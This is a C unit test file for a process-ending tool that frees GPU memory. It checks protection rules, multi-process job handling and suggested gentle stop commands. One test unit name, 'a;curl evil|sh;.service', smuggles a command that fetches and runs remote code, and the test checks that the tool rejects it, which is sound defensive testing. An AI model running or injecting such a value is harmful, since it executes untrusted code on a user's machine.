/* SPDX-License-Identifier: MIT */
/* Which processes may be ended: every rule that keeps one, and jobs of several processes. No process is real here. */
#include "unit.h"

#include "watch/ending/choice.h"
#include "watch/ending/devices.h"
#include "watch/ending/jobs.h"
#include "watch/ending/rules.h"
#include "watch/ending/users.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

enum { MAX = 16, ME = 100, SHELL = 90, TERMINAL = 80, HZ_TICKS = 100 };

static const int64_t gib = 1 << 30;
static const int64_t now_s = 1700000000;

/* A machine with one process, 500, that is stale and this user's; tests change it. */
struct world {
    struct plim_sample sample;
    struct plim_sample_card card[2];
    struct plim_sample_process process[MAX];
    struct plim_holding holding[MAX];
    struct plim_watch_row row[MAX];
    struct plim_kin kin[MAX];
    struct plim_kinship kinship;
    struct plim_scene scene;
    struct plim_wish wish;
    int64_t named[4];
    bool cards[2];
};

static struct plim_kin *add_kin(struct world *w, int64_t pid, int64_t parent, const char *command)
{
    size_t at = w->kinship.n++;
    for (; at > 0 && w->kin[at - 1].pid > pid; at--) /* by pid */
        w->kin[at] = w->kin[at - 1];
    w->kin[at] = (struct plim_kin){ .pid = pid,
                                    .parent = parent,
                                    .start_ticks = (uint64_t)pid * HZ_TICKS,
                                    .uid = 1000,
                                    .effective_uid = 1000,
                                    .state = 'S' };
    snprintf(w->kin[at].command, sizeof w->kin[at].command, "%s", command);
    return &w->kin[at];
}

static struct plim_kin *kin_of(struct world *w, int64_t pid)
{
    for (size_t i = 0; i < w->kinship.n; i++)
        if (w->kin[i].pid == pid)
            return &w->kin[i];
    fail_msg("no kin %lld", (long long)pid);
    return NULL;
}

/* A process that holds memory; it is in the list of all, too. */
static uint32_t add_process(struct world *w, int64_t pid, int64_t parent, const char *command, enum plim_stale stale)
{
    const uint32_t i = w->sample.n_processes++;
    add_kin(w, pid, parent, command);
    w->process[i] = (struct plim_sample_process){ .pid = pid,
                                                  .state = 'S',
                                                  .parent = parent,
                                                  .start_ticks = (uint64_t)pid * HZ_TICKS,
                                                  .started_unix_s = now_s - 7200,
                                                  .uid = 1000,
                                                  .user = "eve",
                                                  .command = command,
                                                  .program = "python3.11",
                                                  .container = "",
                                                  .pod = "",
                                                  .slurm_job = "",
                                                  .parent_program = "" };
    w->holding[i] = (struct plim_holding){
        .card = 0, .process = i, .contexts = PLIM_CONTEXT_COMPUTE, .bytes = gib, .peak_bytes = -1
    };
    w->row[i] = (struct plim_watch_row){ .framework = "", .model = "", .role = PLIM_ROLE_SCRIPT, .stale = stale };
    snprintf(w->row[i].why, sizeof w->row[i].why, "a reason");
    w->sample.n_holdings = i + 1;
    return i;
}

static void make_world(struct world *w)
{
    memset(w, 0, sizeof *w);
    w->sample = (struct plim_sample){
        .taken_unix_ms = now_s * 1000, .n_cards = 2, .card = w->card, .process = w->process, .holding = w->holding
    };
    for (int i = 0; i < 2; i++) {
        snprintf(w->card[i].id, sizeof w->card[i].id, "gpu%d", i);
        w->card[i].card.total_bytes = (uint64_t)(24 * gib);
        w->card[i].used_bytes = 10 * gib;
        w->card[i].free_bytes = 14 * gib;
    }
    w->kinship.kin = w->kin;
    w->scene = (struct plim_scene){ .sample = &w->sample,
                                    .rows = w->row,
                                    .kinship = &w->kinship,
                                    .asker = { .pid = ME, .uid = 1000, .slurm_job = "" } };
    add_kin(w, 1, 0, "/sbin/init")->uid = 0;
    add_kin(w, TERMINAL, 1, "tmux");
    add_kin(w, SHELL, TERMINAL, "-bash");
    add_kin(w, ME, SHELL, "plimsoll free");
    add_process(w, 500, 1, "python train.py", PLIM_STALE_YES);
}

static struct plim_choice *choose(struct world *w)
{
    struct plim_choice *choice = NULL;
    struct plim_error err = { 0 };
    w->wish.pid = w->named;
    if (plim_choice_make(&w->scene, &w->wish, &choice, &err) != 0)
        fail_msg("%s", err.what);
    return choice;
}

/* --- the rules, one by one --- */

static void name_it(struct world *w) { w->named[w->wish.n_pids++] = 500; }
static void nothing(struct world *w) { (void)w; }
static void gone(struct world *w) { w->process[0].is_gone = true; }
static void outside(struct world *w) { w->process[0].is_outside = true; }
static void no_start(struct world *w) { w->process[0].start_ticks = kin_of(w, 500)->start_ticks = 0; }
static void reused(struct world *w) { kin_of(w, 500)->start_ticks++; }
static void vanished(struct world *w) { kin_of(w, 500)->pid = 501; }
static void defunct(struct world *w) { w->process[0].state = 'Z'; }
static void defunct_since(struct world *w) { kin_of(w, 500)->state = 'Z'; }
static void init(struct world *w)
{
    kin_of(w, 1)->start_ticks = w->process[0].start_ticks;
    w->process[0].pid = 1;
    name_it(w);
    w->named[0] = 1;
}
static void kernel(struct world *w) { kin_of(w, 500)->is_kernel = true; }
static void self(struct world *w) { w->scene.asker.pid = 500; }
static void parent(struct world *w) { kin_of(w, SHELL)->parent = 500, kin_of(w, SHELL)->start_ticks = 500 * HZ_TICKS; }
static void unlisted_self(struct world *w) { w->scene.asker.pid = 7777; }
static void other_user(struct world *w) { kin_of(w, 500)->uid = 1001; }
static void setuid_program(struct world *w) { kin_of(w, 500)->effective_uid = 0; }
static void other_user_as_root(struct world *w) { other_user(w), w->scene.asker.uid = 0; }
static void container(struct world *w) { kin_of(w, 500)->is_nested = true; }
static void container_as_root(struct world *w) { container(w), w->scene.asker.uid = 0; }
static void container_group(struct world *w) { w->process[0].container = "3f4e"; }
static void pod_group(struct world *w) { w->process[0].pod = "6a1b"; }
static void inside_container(struct world *w) { container_group(w), w->sample.is_contained = true; }
static void group_gone(struct world *w) { container_group(w), w->process[0].is_container_gone = true; }
static void container_gone(struct world *w) { container(w), w->process[0].is_container_gone = true; }
static void display_role(struct world *w) { w->row[0].role = PLIM_ROLE_DISPLAY; }
static void display_program(struct world *w) { w->process[0].program = "Xorg"; }
static void display_cut(struct world *w) { w->process[0].program = "gnome-session-b"; }
static void display_command(struct world *w)
{
    snprintf(kin_of(w, 500)->command, PLIM_KIN_COMMAND_BYTES, "/usr/bin/kwin_wayland --drm");
}
static void mps_server(struct world *w) { w->process[0].program = "nvidia-cuda-mps-server"; }
static void mps_role(struct world *w) { w->row[0].role = PLIM_ROLE_MPS; }
static void daemon_of_driver(struct world *w) { w->process[0].program = "nvidia-persiste"; }
static void other_job(struct world *w) { w->process[0].slurm_job = "4711"; }
static void own_job(struct world *w) { w->process[0].slurm_job = w->scene.asker.slurm_job = "4711"; }
static void other_job_as_root(struct world *w) { other_job(w), w->scene.asker.uid = 0; }
static void other_job_as_root_named(struct world *w) { other_job_as_root(w), name_it(w); }
static void no_device(struct world *w) { w->scene.asker.needs_device = true, w->scene.root = "/nowhere"; }
static void asked_user(struct world *w) { w->wish.user = "eve"; }
static void asked_uid(struct world *w) { w->wish.user = "1000"; }
static void asked_other_user(struct world *w) { w->wish.user = "mallory"; }
static void asked_other_uid(struct world *w) { w->wish.user = "10000"; }
static void asked_card(struct world *w) { w->cards[0] = true, w->wish.cards = w->cards; }
static void asked_other_card(struct world *w) { w->cards[1] = true, w->wish.cards = w->cards, name_it(w); }
static void active_named(struct world *w) { w->row[0].stale = PLIM_STALE_NO, name_it(w); }
static void active_named_stale(struct world *w) { active_named(w), w->wish.is_stale = true; }
static void unknown_named_stale(struct world *w) { active_named_stale(w), w->row[0].stale = PLIM_STALE_UNKNOWN; }
static void server_named(struct world *w) { active_named(w), w->row[0].role = PLIM_ROLE_SERVER; }
static void server_named_stale(struct world *w) { server_named(w), w->wish.is_stale = true; }
static void old_enough(struct world *w) { w->wish.older_s = 7200; }
static void too_young(struct world *w) { w->wish.older_s = 7201; }
static void unknown_age(struct world *w) { w->wish.older_s = 1, w->process[0].started_unix_s = -1; }
static void notebook(struct world *w) { w->row[0].role = PLIM_ROLE_NOTEBOOK; }
static void notebook_named(struct world *w) { notebook(w), name_it(w); }
static void threads_left(struct world *w) { defunct(w), defunct_since(w), kin_of(w, 500)->n_threads = 2; }
static void threads_left_named(struct world *w) { threads_left(w), name_it(w); }
static void elsewhere(struct world *w) { w->scene.asker.is_elsewhere = true, w->scene.asker.pid = 7777; }

static const struct {
    const char *name;
    void (*change)(struct world *w);
    enum plim_ending_keep keep;
} rules[] = {
    { "stale", nothing, PLIM_KEEP_NOT },
    { "gone", gone, PLIM_KEEP_GONE },
    { "outside", outside, PLIM_KEEP_OUTSIDE },
    { "unknown start", no_start, PLIM_KEEP_CHANGED },
    { "reused", reused, PLIM_KEEP_CHANGED },
    { "vanished", vanished, PLIM_KEEP_CHANGED },
    { "defunct", defunct, PLIM_KEEP_DEFUNCT },
    { "defunct since", defunct_since, PLIM_KEEP_DEFUNCT },
    { "init", init, PLIM_KEEP_INIT },
    { "kernel", kernel, PLIM_KEEP_KERNEL },
    { "self", self, PLIM_KEEP_SELF },
    { "ancestor", parent, PLIM_KEEP_ANCESTOR },
    { "self not in the list", unlisted_self, PLIM_KEEP_ANCESTOR },
    { "other user", other_user, PLIM_KEEP_USER },
    { "setuid", setuid_program, PLIM_KEEP_USER },
    { "other user as root", other_user_as_root, PLIM_KEEP_NOT },
    { "container", container, PLIM_KEEP_CONTAINER },
    { "container as root", container_as_root, PLIM_KEEP_CONTAINER },
    { "container by its group", container_group, PLIM_KEEP_CONTAINER },
    { "pod by its group", pod_group, PLIM_KEEP_CONTAINER },
    { "inside the same container", inside_container, PLIM_KEEP_NOT },
    { "group of a container that is gone", group_gone, PLIM_KEEP_NOT },
    { "container gone", container_gone, PLIM_KEEP_NOT },
    { "display role", display_role, PLIM_KEEP_DISPLAY },
    { "display program", display_program, PLIM_KEEP_DISPLAY },
    { "display, cut name", display_cut, PLIM_KEEP_DISPLAY },
    { "display command", display_command, PLIM_KEEP_DISPLAY },
    { "mps server", mps_server, PLIM_KEEP_SERVICE },
    { "mps role", mps_role, PLIM_KEEP_SERVICE },
    { "daemon, cut name", daemon_of_driver, PLIM_KEEP_SERVICE },
    { "other job", other_job, PLIM_KEEP_SLURM },
    { "own job", own_job, PLIM_KEEP_NOT },
    { "other job as root", other_job_as_root, PLIM_KEEP_SLURM },
    { "other job as root, named", other_job_as_root_named, PLIM_KEEP_NOT },
    { "no device", no_device, PLIM_KEEP_DEVICE },
    { "asked user", asked_user, PLIM_KEEP_NOT },
    { "asked uid", asked_uid, PLIM_KEEP_NOT },
    { "asked other user", asked_other_user, PLIM_KEEP_OTHER_USER },
    { "asked other uid", asked_other_uid, PLIM_KEEP_OTHER_USER },
    { "asked card", asked_card, PLIM_KEEP_NOT },
    { "asked other card", asked_other_card, PLIM_KEEP_OTHER_CARD },
    { "active, named", active_named, PLIM_KEEP_NOT },
    { "active, named, stale wished", active_named_stale, PLIM_KEEP_NOT_STALE },
    { "unknown, named, stale wished", unknown_named_stale, PLIM_KEEP_NOT_STALE },
    { "server, named", server_named, PLIM_KEEP_NOT },
    { "server, named, stale wished", server_named_stale, PLIM_KEEP_SERVER },
    { "old enough", old_enough, PLIM_KEEP_NOT },
    { "too young", too_young, PLIM_KEEP_YOUNG },
    { "unknown age", unknown_age, PLIM_KEEP_YOUNG },
    { "notebook", notebook, PLIM_KEEP_NOTEBOOK },
    { "notebook, named", notebook_named, PLIM_KEEP_NOT },
    { "main thread has ended", threads_left, PLIM_KEEP_NOT_STALE },
    { "main thread has ended, named", threads_left_named, PLIM_KEEP_NOT },
    { "another machine", elsewhere, PLIM_KEEP_NOT },
};

static void test_rules(void **state)
{
    static struct world w;
    (void)state;
    for (size_t i = 0; i < COUNT(rules); i++) {
        make_world(&w);
        rules[i].change(&w);
        struct plim_choice *choice = choose(&w);
        assert_int_equal(choice->n, 1);
        if (choice->candidate[0].keep != rules[i].keep)
            fail_msg("%s: %s, expected %s", rules[i].name, plim_keep_name(choice->candidate[0].keep),
                     plim_keep_name(rules[i].keep));
        assert_int_equal(choice->n_chosen, rules[i].keep == PLIM_KEEP_NOT);
        assert_int_equal(choice->candidate[0].keep_why[0] != '\0', rules[i].keep != PLIM_KEEP_NOT);
        assert_int_equal(choice->card[0].returns_bytes, rules[i].keep == PLIM_KEEP_NOT ? gib : 0);
        assert_int_equal(choice->card[1].returns_bytes, 0);
        plim_choice_free(choice);
    }
}

/* A protected process stays so when it is named, stale or not. */
static void test_protection_of_named(void **state)
{
    static struct world w;
    (void)state;
    for (size_t i = 0; i < COUNT(rules); i++) {
        if (rules[i].keep == PLIM_KEEP_NOT || rules[i].keep > PLIM_KEEP_DEVICE || rules[i].change == other_job_as_root)
            continue;
        make_world(&w);
        rules[i].change(&w);
        w.named[0] = w.process[0].pid;
        w.wish.n_pids = 1;
        struct plim_choice *choice = choose(&w);
        if (choice->n_chosen)
            fail_msg("%s: chosen when named", rules[i].name);
        plim_choice_free(choice);
    }
}

static void test_every_rule_has_a_name(void **state)
{
    (void)state;
    for (int i = 0; i < PLIM_KEEP_MAX_; i++)
        assert_true(plim_keep_name((enum plim_ending_keep)i)[0]);
}

/* --- what is asked for --- */

static void test_nothing_stale(void **state)
{
    static struct world w;
    (void)state;
    make_world(&w);
    w.row[0].stale = PLIM_STALE_UNKNOWN;
    struct plim_choice *choice = choose(&w);
    assert_int_equal(choice->n, 0);
    plim_choice_free(choice);
}

static void test_names_of_no_use(void **state)
{
    static struct world w;
    (void)state;
    make_world(&w);
    w.named[0] = 4242;  /* no such process */
    w.named[1] = SHELL; /* holds nothing */
    w.named[2] = 500;
    w.named[3] = 500; /* twice */
    w.wish.n_pids = 4;
    struct plim_choice *choice = choose(&w);
    assert_int_equal(choice->n, 3);
    assert_int_equal(choice->n_chosen, 1);
    assert_int_equal(choice->candidate[0].kin.pid, 500);
    assert_int_equal(choice->candidate[1].kin.pid, SHELL);
    assert_int_equal(choice->candidate[1].keep, PLIM_KEEP_NO_MEMORY);
    assert_int_equal(choice->candidate[2].keep, PLIM_KEEP_NO_PROCESS);
    plim_choice_free(choice);
}

/* Memory on two cards: it is as stale as the least stale of its rows. */
static void test_two_cards(void **state)
{
    static struct world w;
    (void)state;
    make_world(&w);
    w.holding[1] = w.holding[0];
    w.holding[1].card = 1;
    w.holding[1].bytes = 2 * gib;
    w.row[1] = w.row[0];
    w.sample.n_holdings = 2;
    struct plim_choice *choice = choose(&w);
    assert_int_equal(choice->n_chosen, 1);
    assert_int_equal(choice->candidate[0].bytes, 3 * gib);
    assert_int_equal(choice->card[1].returns_bytes, 2 * gib);
    plim_choice_free(choice);
    w.row[1].stale = PLIM_STALE_NO;
    choice = choose(&w);
    assert_int_equal(choice->n_chosen, 0);
    plim_choice_free(choice);
}

/* --- jobs --- */

/* torchrun (600) and two ranks (601, 602), of which one has a loader (603) without memory. */
static void add_torchrun(struct world *w, enum plim_stale second)
{
    add_kin(w, 600, 1, "/usr/bin/python3 /opt/venv/bin/torchrun --nproc-per-node 2 ddp.py");
    add_process(w, 601, 600, "/usr/bin/python3 -u ddp.py", PLIM_STALE_YES);
    add_process(w, 602, 600, "/usr/bin/python3 -u ddp.py", second);
    add_kin(w, 603, 602, "/usr/bin/python3 -u ddp.py");
}

static void test_stale_job(void **state)
{
    static struct world w;
    (void)state;
    make_world(&w);
    add_torchrun(&w, PLIM_STALE_YES);
    struct plim_choice *choice = choose(&w);
    assert_int_equal(choice->n_chosen, 5);
    assert_int_equal(choice->candidate[1].kin.pid, 600); /* the launcher first; then by bytes */
    assert_true(choice->candidate[1].is_root_of_job);
    assert_int_equal(choice->candidate[1].part, PLIM_PART_LAUNCHER);
    assert_int_equal(choice->candidate[2].kin.pid, 601);
    assert_int_equal(choice->candidate[2].works_for, 600);
    assert_int_equal(choice->candidate[4].kin.pid, 603);
    assert_int_equal(choice->candidate[4].part, PLIM_PART_CHILD);
    assert_int_equal(choice->card[0].returns_bytes, 3 * gib);
    plim_choice_free(choice);
}

/* The parent of a desktop's orphan is the user's own systemd, which is kept: that does not keep the orphan. */
static void test_orphan_of_a_desktop(void **state)
{
    static struct world w;
    (void)state;
    make_world(&w);
    add_kin(&w, 300, 1, "/lib/systemd/systemd --user");
    add_process(&w, 601, 300, "VLLM::EngineCore", PLIM_STALE_YES);
    struct plim_choice *choice = choose(&w);
    assert_int_equal(choice->n_chosen, 2);
    assert_int_equal(choice->candidate[1].kin.pid, 601);
    assert_int_equal(choice->candidate[1].works_for, 0);
    plim_choice_free(choice);
}

/* One rank that is not stale, one that is protected, or one that is computing keeps the whole job. */
static void test_job_that_is_kept(void **state)
{
    static struct world w;
    (void)state;
    for (int i = 0; i < 5; i++) {
        make_world(&w);
        add_torchrun(&w, i == 0 ? PLIM_STALE_UNKNOWN : PLIM_STALE_YES);
        if (i == 1)
            kin_of(&w, 600)->uid = kin_of(&w, 601)->uid = kin_of(&w, 602)->uid = 1001;
        if (i == 2)
            kin_of(&w, 602)->is_nested = true;
        if (i == 3)
            kin_of(&w, 603)->state = 'R';
        if (i == 4) { /* this command runs in a rank */
            kin_of(&w, SHELL)->parent = 602;
            kin_of(&w, SHELL)->start_ticks = 700 * HZ_TICKS;
        }
        struct plim_choice *choice = choose(&w);
        if (choice->n_chosen != 1 || choice->candidate[0].kin.pid != 500)
            fail_msg("%d: %u chosen", i, choice->n_chosen);
        plim_choice_free(choice);
    }
}

/* Naming a rank ends that and what works for it, and never what it works for. */
static void test_named_rank(void **state)
{
    static struct world w;
    (void)state;
    make_world(&w);
    add_torchrun(&w, PLIM_STALE_NO);
    w.named[0] = 602;
    w.wish.n_pids = 1;
    struct plim_choice *choice = choose(&w);
    assert_int_equal(choice->n_chosen, 2);
    assert_int_equal(choice->candidate[0].kin.pid, 602);
    assert_int_equal(choice->candidate[0].works_for, 600);
    assert_int_equal(choice->candidate[1].kin.pid, 603);
    plim_choice_free(choice);
}

/* Naming a worker that holds no memory beside its parent ends both, as without its number. */
static void test_named_child(void **state)
{
    static struct world w;
    (void)state;
    for (int i = 0; i < 2; i++) {
        make_world(&w);
        add_kin(&w, 700, 500, "python train.py");
        w.named[i] = 500;
        w.named[1 - i] = 700;
        w.wish.n_pids = 2;
        struct plim_choice *choice = choose(&w);
        assert_int_equal(choice->n_chosen, 2);
        assert_int_equal(choice->candidate[0].kin.pid, 500);
        assert_int_equal(choice->candidate[1].part, PLIM_PART_CHILD);
        plim_choice_free(choice);
    }
    w.named[0] = 700; /* alone nothing would come back */
    w.wish.n_pids = 1;
    struct plim_choice *choice = choose(&w);
    assert_int_equal(choice->n_chosen, 0);
    assert_int_equal(choice->candidate[0].keep, PLIM_KEEP_NO_MEMORY);
    plim_choice_free(choice);
}

static void test_named_launcher(void **state)
{
    static struct world w;
    (void)state;
    make_world(&w);
    add_torchrun(&w, PLIM_STALE_NO);
    w.named[0] = 600;
    w.wish.n_pids = 1;
    struct plim_choice *choice = choose(&w);
    assert_int_equal(choice->n_chosen, 4);
    assert_int_equal(choice->candidate[0].kin.pid, 600);
    assert_int_equal(choice->candidate[0].part, PLIM_PART_LAUNCHER);
    plim_choice_free(choice);
    w.wish.is_stale = true; /* then all have to be */
    choice = choose(&w);
    assert_int_equal(choice->n_chosen, 0);
    plim_choice_free(choice);
}

static void test_workers(void **state)
{
    static const struct {
        const char *child, *parent;
        bool is_worker;
    } pairs[] = {
        { "python train.py", "torchrun train.py", true },
        { "python train.py", "/usr/bin/python3.11 -u -m torch.distributed.run train.py", true },
        { "python train.py", "/opt/bin/accelerate launch train.py", true },
        { "./a.out", "mpirun -n 8 ./a.out", true },
        { "VLLM::EngineCore", "python serve.py", true },
        { "sglang::scheduler_TP0", "python -m sglang.launch_server", true },
        { "python -c from multiprocessing.spawn import spawn_main; spawn_main(5) --multiprocessing-fork", "python a.py",
          true },
        { "python train.py", "python train.py", true },
        { "python train.py", "-bash", false },
        { "python train.py", "bash -c torchrun train.py", false },
        { "python train.py", "vim torchrun", false },
        { "python train.py", "python run_all.py torchrun", false },
        { "python train.py", "python -c import torchrun", false },
        { "VLLM::EngineCore", "/lib/systemd/systemd --user", false }, /* an orphan */
        { "VLLM::EngineCore", "/sbin/docker-init -- sh", false },
        { "python -c from multiprocessing.spawn import spawn_main; spawn_main(5) --multiprocessing-fork", "/sbin/init",
          false },
        { "python -m ipykernel_launcher -f kernel-1.json", "python jupyter-lab", false },
        { "ollama runner --model x", "ollama serve", false },
        { "", "", false },
    };
    (void)state;
    for (size_t i = 0; i < COUNT(pairs); i++) {
        struct plim_kin child = { .pid = 20, .parent = 10, .uid = 7 }, parent = { .pid = 10, .uid = 7 };
        snprintf(child.command, sizeof child.command, "%s", pairs[i].child);
        snprintf(parent.command, sizeof parent.command, "%s", pairs[i].parent);
        if (plim_job_is_worker(&child, &parent) != pairs[i].is_worker)
            fail_msg("'%s' of '%s'", pairs[i].child, pairs[i].parent);
        parent.uid = 8;
        assert_false(plim_job_is_worker(&child, &parent));
    }
}

/* --- gentle ways --- */

static void test_gentle(void **state)
{
    static const struct {
        const char *command, *gentle, *way;
    } rows[] = {
        { "/usr/local/bin/ollama runner --model /m/blobs/sha256-1 --port 4001", "Ollama", "ollama stop MODEL" },
        { "vllm serve m --enable-sleep-mode", "vLLM", "curl -X POST 'http://127.0.0.1:8000/sleep?level=1'" },
        { "vllm serve m --enable-sleep-mode --port 8123", "vLLM",
          "curl -X POST 'http://127.0.0.1:8123/sleep?level=1'" },
        { "vllm serve m --enable-sleep-mode --port=99999", "vLLM",
          "curl -X POST 'http://127.0.0.1:8000/sleep?level=1'" },
        { "python -m ipykernel_launcher -f /run/kernel-1b2c-3d.json", "1b2c-3d", "" },
        { "python -m ipykernel_launcher -f /run/kernel-", "", "" },
        { "python train.py", "", "" },
    };
    static struct world w;
    (void)state;
    for (size_t i = 0; i < COUNT(rows); i++) {
        make_world(&w);
        snprintf(kin_of(&w, 500)->command, PLIM_KIN_COMMAND_BYTES, "%s", rows[i].command);
        struct plim_choice *choice = choose(&w);
        const struct plim_ending_candidate *c = &choice->candidate[0];
        if (!strstr(c->gentle, rows[i].gentle) || (c->gentle[0] != 0) != (rows[i].gentle[0] != 0) ||
            strcmp(c->gentle_command, rows[i].way) != 0)
            fail_msg("%s: %s: %s", rows[i].command, c->gentle, c->gentle_command);
        plim_choice_free(choice);
    }
    static const char *const units[][2] = { { "ollama@2.service", "systemctl stop ollama@2.service" },
                                            { "a;curl evil|sh;.service", "" },
                                            { "--now.service", "" },
                                            { "user@1000.service", "" } };
    for (size_t i = 0; i < COUNT(units); i++) {
        make_world(&w);
        w.process[0].unit = units[i][0];
        struct plim_choice *choice = choose(&w);
        assert_string_equal(choice->candidate[0].gentle_command, units[i][1]);
        plim_choice_free(choice);
    }
    make_world(&w);
    w.process[0].state = 'Z';
    w.process[0].parent = 77;
    struct plim_choice *choice = choose(&w);
    assert_string_equal(choice->candidate[0].gentle_command, "kill -CHLD 77");
    plim_choice_free(choice);
}

static void test_device_files(void **state)
{
    static const char *const cards[] = { "/dev/nvidia0", "/dev/nvidiactl", "/dev/nvidia-uvm", "/dev/dri/renderD128",
                                         "/dev/kfd" };
    static const char *const others[] = { "/dev/null", "/home/eve/dev/nvidia0", "socket:[1]", "" };
    (void)state;
    for (size_t i = 0; i < COUNT(cards); i++)
        assert_true(plim_device_is_card(cards[i]));
    for (size_t i = 0; i < COUNT(others); i++)
        assert_false(plim_device_is_card(others[i]));
    assert_int_equal(plim_devices_of(NULL, 1 << 30), PLIM_DEVICES_NONE);
}

/* A tree in which 500, which is listed, 700 and the service 800 have a card open, and 600 has not. */
static void make_tree(char *root)
{
    static const struct {
        int pid;
        const char *target;
    } files[] = {
        { 500, "/dev/nvidia0" }, { 600, "/dev/null" }, { 700, "/dev/nvidia-uvm" }, { 800, "/dev/nvidiactl" }
    };
    char path[128];
    assert_non_null(mkdtemp(root));
    snprintf(path, sizeof path, "%s/proc", root);
    assert_int_equal(mkdir(path, 0700), 0);
    for (size_t i = 0; i < COUNT(files); i++) {
        snprintf(path, sizeof path, "%s/proc/%d", root, files[i].pid);
        assert_int_equal(mkdir(path, 0700), 0);
        snprintf(path, sizeof path, "%s/proc/%d/fd", root, files[i].pid);
        assert_int_equal(mkdir(path, 0700), 0);
        snprintf(path, sizeof path, "%s/proc/%d/fd/3", root, files[i].pid);
        assert_int_equal(symlink(files[i].target, path), 0);
    }
}

static void remove_tree(const char *root)
{
    char command[64];
    snprintf(command, sizeof command, "rm -r %s", root);
    assert_int_equal(system(command), 0);
}

static void test_device_users(void **state)
{
    static struct world w;
    char root[] = "/tmp/plimsoll-users-XXXXXX";
    const struct plim_kin *users[2] = { NULL, NULL };
    (void)state;
    make_world(&w);
    add_kin(&w, 600, 1, "python");
    add_kin(&w, 700, 1, "python loader.py");
    add_kin(&w, 800, 1, "/usr/bin/nvidia-persistenced --user x");
    make_tree(root);
    assert_int_equal(plim_devices_of(root, 500), PLIM_DEVICES_OPEN);
    assert_int_equal(plim_devices_of(root, 600), PLIM_DEVICES_NONE);
    assert_int_equal(plim_device_users(&w.kinship, root, &w.sample, users, 2), 1);
    assert_int_equal(users[0]->pid, 700);
    w.sample.n_holdings = 0;
    assert_int_equal(plim_device_users(&w.kinship, root, &w.sample, users, 1), 2); /* more than there is room for */
    assert_int_equal(users[0]->pid, 500);
    assert_int_equal(users[1] == NULL, true);
    remove_tree(root);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_rules),
        cmocka_unit_test(test_protection_of_named),
        cmocka_unit_test(test_nothing_stale),
        cmocka_unit_test(test_every_rule_has_a_name),
        cmocka_unit_test(test_two_cards),
        cmocka_unit_test(test_names_of_no_use),
        cmocka_unit_test(test_stale_job),
        cmocka_unit_test(test_job_that_is_kept),
        cmocka_unit_test(test_orphan_of_a_desktop),
        cmocka_unit_test(test_named_rank),
        cmocka_unit_test(test_named_launcher),
        cmocka_unit_test(test_named_child),
        cmocka_unit_test(test_workers),
        cmocka_unit_test(test_gentle),
        cmocka_unit_test(test_device_files),
        cmocka_unit_test(test_device_users),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
